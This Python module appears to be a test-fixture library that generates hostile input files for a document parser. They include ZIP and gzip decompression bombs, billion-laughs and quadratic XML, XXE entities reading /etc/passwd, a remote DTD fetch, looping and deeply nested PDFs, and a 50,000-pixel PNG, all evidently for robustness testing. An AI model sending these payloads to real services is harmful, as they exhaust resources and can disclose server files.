"""Files made to harm whoever reads them, each small to send and large, endless or poisonous to unpack."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Final

_TYPES: Final = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_LAUGHS: Final = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_BILLION: Final = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">{_LAUGHS}]><d>&a9;</d>'
_QUADRATIC: Final = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "{"x" * 50_000}">]><d>{"&a;" * 50_000}</d>'
_OUTSIDE: Final = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
_REMOTE: Final = '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://127.0.0.1:9/evil.dtd"><d/>'


def archive(**parts: str | bytes) -> bytes:
    """A ZIP archive; ``__`` in a name stands for a slash, ``_dot_`` for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("[Content_Types].xml", _TYPES)
        for name, body in parts.items():
            target.writestr(name.replace("__", "/").replace("_dot_", "."), body)
    return out.getvalue()


def many_entries() -> bytes:
    return archive(**{f"word__part{n}_dot_bin": b"" for n in range(6_000)})


def lying_size() -> bytes:
    """An entry that says it unpacks to ten bytes and unpacks to fifty million."""
    honest = archive(word__document_dot_xml=b"<d>" + bytes(50_000_000))
    size = struct.pack("<I", 50_000_003)
    return honest.replace(size, struct.pack("<I", 10))


def overlapping() -> bytes:
    """A thousand entries in the table of contents that all unpack the same bytes."""
    kernel = archive(word__document_dot_xml=bytes(900_000))
    start = kernel.rindex(b"PK\x01\x02")
    end = kernel.rindex(b"PK\x05\x06")
    entry = kernel[start:end]
    entries = entry * 1_000
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1_000, 1_000, len(entries), start, 0)
    return kernel[:start] + entries + tail


def archive_in_archives() -> bytes:
    data = bytes(1_000_000)
    for _ in range(8):
        data = archive(**{f"part{n}_dot_zip": data for n in range(8)})
    return data


def wide_sheet() -> bytes:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return archive(
        xl__workbook_dot_xml=f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
        '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        xl___rels__workbook_dot_xml_dot_rels=f'<Relationships xmlns="{package}"><Relationship Id="r1" '
        f'Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        xl__worksheets__sheet1_dot_xml=f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>',
    )


def pdf(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>", start: int = 0) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, data) for n, data in enumerate(objects, start=1))
    return (
        b"%PDF-1.7\n"
        + body
        + b"xref\n0 1\n0000000000 65535 f \ntrailer "
        + trailer
        + b"\nstartxref\n%d\n%%%%EOF" % start
    )


def _page_of(content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
    )


def nested_forms() -> bytes:
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 14 /Resources << /XObject << /A 4 0 R >> >> >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /A 4 0 R >> >> >>",
        form + b"\nstream\n/A Do         \nendstream",
    )


def huge_picture() -> bytes:
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return b"\x89PNG\r\n\x1a\n" + chunk + zlib.compress(bytes(100))


def squeezed(size: int) -> bytes:
    return gzip.compress(bytes(size))


_BILLION_SHEET: Final = {"xl__workbook_dot_xml": "<w/>", "xl__sharedStrings_dot_xml": _QUADRATIC}
_BOOK: Final = {"mimetype": "application/epub+zip"}

BOMBS: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "swollen": ("a.docx", lambda: archive(word__document_dot_xml="<d/>", word__zeros_dot_bin=bytes(60_000_000))),
    "many entries": ("a.docx", many_entries),
    "entry that lies about its size": ("a.docx", lying_size),
    "overlapping entries": ("a.docx", overlapping),
    "archives in archives": ("a.zip", archive_in_archives),
    "billion laughs": ("a.docx", lambda: archive(word__document_dot_xml=_BILLION)),
    "quadratic blow-up": ("a.xlsx", lambda: archive(**_BILLION_SHEET)),
    "entity from a file": ("a.docx", lambda: archive(word__document_dot_xml=_OUTSIDE)),
    "entity in an open document": (
        "a.odt",
        lambda: archive(mimetype="application/vnd.oasis.opendocument.text", content_dot_xml=_OUTSIDE),
    ),
    "entity in an e-book": ("a.epub", lambda: archive(**{"META-INF__container_dot_xml": _OUTSIDE, **_BOOK})),
    "remote document type": ("a.pptx", lambda: archive(ppt__presentation_dot_xml=_REMOTE)),
    "deep XML": ("a.docx", lambda: archive(word__document_dot_xml="<a>" * 100_000 + "</a>" * 100_000)),
    "sheet of 17 thousand million cells": ("a.xlsx", wide_sheet),
    "cross references in a ring": (
        "a.pdf",
        lambda: b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer << /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF",
    ),
    "page tree in a ring": (
        "a.pdf",
        lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99 >>"),
    ),
    "a million pages": (
        "a.pdf",
        lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>"),
    ),
    "deep arrays": ("a.pdf", lambda: pdf(b"<< /Type /Catalog /Pages " + b"[" * 200_000 + b"]" * 200_000 + b" >>")),
    "forms that draw themselves": ("a.pdf", nested_forms),
    "page that unpacks to 60 MB": ("a.pdf", lambda: _page_of(b"0 0 m " * 10_000_000)),
    "picture of 50,000 by 50,000": ("a.png", huge_picture),
    "compressed zeros": ("a.gz", lambda: squeezed(20_000_000)),
    "one endless line": ("a.csv", lambda: b"a," * 3_000_000),
    "one endless cell": ("a.csv", lambda: b'"' + b"a\n" * 3_000_000),
    "deep page": ("a.html", lambda: b"<html><body>" + b"<div>" * 100_000 + b"word"),
    "deep JSON": ("a.json", lambda: b"[" * 1_000_000),
    "JSON of nested objects": ("a.json", lambda: json.dumps(_nested(60)).encode()),
    "deep RTF": ("a.rtf", lambda: b"{\\rtf1 " + b"{" * 500_000 + b"word"),
    "deep quotes": ("a.md", lambda: b">" * 100_000 + b" word\n" + b"* " * 50_000 + b"[" * 100_000),
    "table of very many cells": ("a.md", lambda: (b"|" + b"a|" * 2_000 + b"\n|" + b"-|" * 2_000 + b"\n") * 4),
    "unclosed comments": ("a.html", lambda: b"<!--" * 400_000 + b"<html>"),
    "marks on one letter": ("a.txt", lambda: b"a" + "\u0301".encode() * 4_000_000),
}  # fmt: skip


def _nested(depth: int) -> object:
    value: object = "word"
    for _ in range(depth):
        value = {"a": value}
    return value
